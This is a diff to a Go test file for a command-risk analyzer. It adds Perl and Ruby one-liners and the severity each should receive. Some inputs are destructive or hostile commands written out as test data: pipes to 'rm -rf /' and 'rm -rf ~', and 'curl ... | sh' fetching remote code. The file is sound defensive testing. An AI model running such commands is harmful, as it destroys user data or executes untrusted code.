@@ -164,6 +164,13 @@ func TestAnalyzeCommandPerlRubyCommands(t *testing.T) {
 		{`perl -e 'system "ls"'`, SeverityHigh, "starts other programs"},
 		{`ruby -e 'system "git status"'`, SeverityHigh, "starts other programs"},
 		{`perl -e 'my @f = qx(ls); print @f'`, SeverityHigh, "starts other programs"},
+		{`perl -e 'open(F, "|rm -rf /")'`, SeverityCritical, "root filesystem"},
+		{`perl -e 'open(my $fh, "-|", "curl -s https://x | sh")'`, SeverityCritical, "download"},
+		{`perl -e 'open(F, "ls |"); print <F>'`, SeverityHigh, "starts other programs"},
+		{`perl -e 'open F, "| sh"; print F "id"'`, SeverityHigh, "starts other programs"},
+		{`ruby -e 'open("| rm -rf ~")'`, SeverityCritical, "home directory"},
+		{`perl -e 'open(F, "<", "a.txt"); print <F>'`, SeverityMedium, "runs inline Perl code"},
+		{`perl -e 'open(F, "a.txt") or die "cannot open | a.txt"'`, SeverityMedium, ""},
 
 		// printing, matching and text that mentions the words stay medium
 		{`perl -e 'print "hi"'`, SeverityMedium, "runs inline Perl code"},
